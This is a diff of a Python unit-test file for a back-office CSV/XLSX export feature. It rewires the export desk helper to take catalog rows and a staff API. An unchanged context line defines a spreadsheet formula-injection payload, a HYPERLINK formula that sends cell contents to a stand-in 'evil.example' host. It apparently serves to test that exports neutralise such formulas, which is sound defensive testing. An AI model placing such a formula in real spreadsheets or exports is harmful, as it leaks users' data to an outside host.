@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 
 from deployments.backoffice.exports.desk import ExportDesk
 from deployments.backoffice.exports.kinds import ExportKind
+from deployments.backoffice.exports.rows import CatalogRows
 from deployments.backoffice.formats.items import ImportKind
 from deployments.backoffice.tables.numbers import ExactNumber, Mark, decimal_of
 from deployments.backoffice.tables.safe_cells import shielded, unshielded
@@ -26,6 +27,7 @@ from deployments.foundation.values.clock import utc_now
 from deployments.orders.contract import OrdersApi
 from deployments.pricing.contract import DiscountCode
 from deployments.pricing.contract.codes import BuyGet, SaveCode, Scope
+from deployments.staff.contract import StaffApi
 from tests.unit.backoffice.imports.shop import ADA, SKU, Shop
 
 FORMATS: list[FileFormat] = ["csv", "xlsx"]
@@ -35,7 +37,9 @@ HARM = '=HYPERLINK("http://evil.example?x="&A1)'
 
 def desk(shop: Shop) -> ExportDesk:
     orders = shop.host.connect(OrdersApi, app="orders")
-    return ExportDesk(shop.catalog, shop.inventory, orders, shop.pricing, utc_now)
+    staff = shop.host.connect(StaffApi, app="staff")
+    goods = CatalogRows(shop.catalog, shop.inventory)
+    return ExportDesk(goods, orders, shop.pricing, staff, utc_now)
 
 
 async def exported(shop: Shop, kind: ExportKind, as_: FileFormat) -> bytes:
